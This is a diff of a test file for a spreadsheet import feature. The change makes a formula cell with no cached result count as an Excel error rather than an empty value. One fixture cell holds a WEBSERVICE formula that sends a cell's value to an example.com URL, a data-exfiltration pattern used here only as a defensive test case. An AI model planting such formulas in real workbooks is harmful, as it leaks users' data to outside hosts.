@@ -162,16 +162,16 @@ describe('a cell of the wrong type', () => {
 })
 
 describe('a formula', () => {
-  test('in a workbook counts as its result, and as empty without one', async () => {
+  test('in a workbook counts as its result, and is a fault without one', async () => {
     const cells: Cells = new Map([
       ['1,1', { value: null, formula: 'WEBSERVICE("http://example.com/?"&A2)' }],
       ['1,4', { value: null, formula: '12*25', formulaResult: 300 }],
     ])
     const sheet = await xlsx(await book([['Q-1', null, 'T9', '公斤', null, 1, '']], cells))
     const { id, mapping, sample } = sheet.body
-    expect(sample).toEqual([['Q-1', '', 'T9', '公斤', '300', '1', '']])
+    expect(sample).toEqual([['Q-1', '#N/A', 'T9', '公斤', '300', '1', '']])
     const planned = await admin.send(importCalls.preview, { params: { id }, body: { mapping } })
-    expect(planned.body).toMatchObject({ faults: [{ row: 2, field: 'name', code: 'required' }] })
+    expect(planned.body).toMatchObject({ faults: [{ row: 2, field: 'name', code: 'excel-error' }] })
   })
 
   test('in a CSV file is plain text, and is exported as such', async () => {
